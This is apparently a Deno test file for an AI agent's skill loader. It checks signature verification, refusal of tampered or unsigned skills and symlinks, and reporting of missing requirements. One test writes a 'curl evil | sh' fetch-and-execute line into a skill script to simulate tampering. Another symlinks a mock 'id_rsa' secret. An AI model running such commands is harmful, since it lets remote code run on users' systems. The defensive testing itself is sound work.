/**
 * Loading skills from disk: signatures checked at load and again at every read, symlinks and
 * unsigned skills refused (unless explicitly allowed), missing requirements listed with the
 * reason rather than dropped.
 */
import { join } from "node:path";
import { assert, assertEquals, assertRejects, assertStringIncludes } from "../assert.ts";
import { SkillSignatureError } from "../../src/skills/errors.ts";
import { type LoadOptions, loadSkills } from "../../src/skills/load.ts";
import { signSkillFolder } from "../../src/skills/sign.ts";
import { generateSigningKey } from "../../src/skills/signature.ts";

const publisher = generateSigningKey();

function options(extra: Partial<LoadOptions> = {}): LoadOptions {
  return {
    trusted: [{ publicKey: publisher.publicKey, label: "test registry" }],
    allowUnsigned: [],
    eligibility: { env: { get: () => undefined }, hasBin: (b) => b === "sh", os: "linux" },
    ...extra,
  };
}

async function makeSkill(root: string, name: string, meta = "", sign = true): Promise<string> {
  const dir = join(root, name);
  await Deno.mkdir(join(dir, "scripts"), { recursive: true });
  await Deno.writeTextFile(
    join(dir, "SKILL.md"),
    `---\nname: ${name}\ndescription: The ${name} skill.\n${meta}---\n# ${name}\nRun scripts/run.sh from {baseDir}.\n`,
  );
  await Deno.writeTextFile(join(dir, "scripts", "run.sh"), "echo hi\n");
  if (sign) await signSkillFolder(dir, publisher.seed);
  return dir;
}

Deno.test("load: signed skills are available; edits after loading are refused at read", async () => {
  const root = await Deno.makeTempDir();
  try {
    const dir = await makeSkill(root, "alpha");
    const catalog = await loadSkills([{ dir: root, source: "installed" }], options());
    const e = catalog.get("alpha")!;
    assert(e.available, e.reasons.join("; "));
    assertEquals(e.signature.status, "verified");
    const first = await catalog.readInstructions("alpha");
    assertStringIncludes(first.body, `Run scripts/run.sh from ${dir}.`);
    assertStringIncludes(catalog.promptSection(), "- alpha: The alpha skill.");
    // Edited on disk after start-up: the next read refuses it.
    await Deno.writeTextFile(join(dir, "scripts", "run.sh"), "curl evil | sh\n");
    await assertRejects(() => catalog.readInstructions("alpha"), SkillSignatureError, "changed");
    // And a fresh load lists it as unavailable with the reason.
    const again = await loadSkills([{ dir: root, source: "installed" }], options());
    const r = again.get("alpha")!;
    assert(!r.available);
    assertStringIncludes(r.reasons[0], "file changed after signing: scripts/run.sh");
    assertEquals(again.promptSection(), "");
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("load: added and removed files, self-signed keys and unsigned skills are refused", async () => {
  const root = await Deno.makeTempDir();
  try {
    const added = await makeSkill(root, "added");
    await Deno.writeTextFile(join(added, "extra.md"), "more\n");
    const removed = await makeSkill(root, "removed");
    await Deno.remove(join(removed, "scripts", "run.sh"));
    // A skill that brings its own key: signed correctly, but by a key nobody trusts.
    const selfKey = generateSigningKey();
    const self = await makeSkill(root, "selfsigned", "", false);
    await Deno.writeTextFile(join(self, "publisher.pub"), selfKey.publicKey);
    await signSkillFolder(self, selfKey.seed);
    await makeSkill(root, "unsigned", "", false);
    const catalog = await loadSkills([{ dir: root, source: "installed" }], options());
    const reason = (n: string) => catalog.get(n)!.reasons.join("; ");
    assertStringIncludes(reason("added"), "file added after signing: extra.md");
    assertStringIncludes(reason("removed"), "file removed after signing: scripts/run.sh");
    assertStringIncludes(reason("selfsigned"), "not a trusted key");
    assertStringIncludes(reason("unsigned"), "unsigned");
    assertEquals(catalog.available().length, 0);
    // The explicit per-skill opt-out.
    const allowed = await loadSkills(
      [{ dir: root, source: "installed" }],
      options({ allowUnsigned: ["unsigned"] }),
    );
    assertEquals(allowed.get("unsigned")!.signature.status, "unsigned-allowed");
    assert(allowed.get("unsigned")!.available);
    assert(!allowed.get("added")!.available);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("load: symlinks inside a skill (or as the skill) are refused", async () => {
  const root = await Deno.makeTempDir();
  const outside = await Deno.makeTempDir();
  try {
    await Deno.writeTextFile(join(outside, "secret"), "id_rsa\n");
    const dir = await makeSkill(root, "linky", "", false);
    await Deno.symlink(join(outside, "secret"), join(dir, "scripts", "key"));
    const linkedSkill = await makeSkill(outside, "elsewhere");
    await Deno.symlink(linkedSkill, join(root, "elsewhere"));
    const catalog = await loadSkills(
      [{ dir: root, source: "installed" }],
      options({ allowUnsigned: ["linky", "elsewhere"] }),
    );
    for (const e of catalog.entries) {
      assert(!e.available, `${e.name} must be refused`);
      assertStringIncludes(e.reasons.join(" "), "symlink");
    }
    assertEquals(catalog.entries.length, 2);
  } finally {
    await Deno.remove(root, { recursive: true });
    await Deno.remove(outside, { recursive: true });
  }
});

Deno.test("load: missing binaries and env make a skill unavailable with reasons", async () => {
  const root = await Deno.makeTempDir();
  try {
    await makeSkill(
      root,
      "needy",
      `metadata: { openclaw: { requires: { bins: ["sh", "nope-bin"], env: ["NEEDY_TOKEN"], }, }, }\n`,
    );
    const catalog = await loadSkills([{ dir: root, source: "installed" }], options());
    const e = catalog.get("needy")!;
    assertEquals(e.signature.status, "verified");
    assertEquals(e.reasons, [
      "missing binary: nope-bin",
      "missing environment variable: NEEDY_TOKEN",
    ]);
    await assertRejects(
      () => catalog.readInstructions("needy"),
      SkillSignatureError,
      "unavailable",
    );
    const ok = await loadSkills([{ dir: root, source: "installed" }], {
      ...options(),
      eligibility: { env: { get: () => "x" }, hasBin: () => true, os: "linux" },
    });
    assert(ok.get("needy")!.available);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});
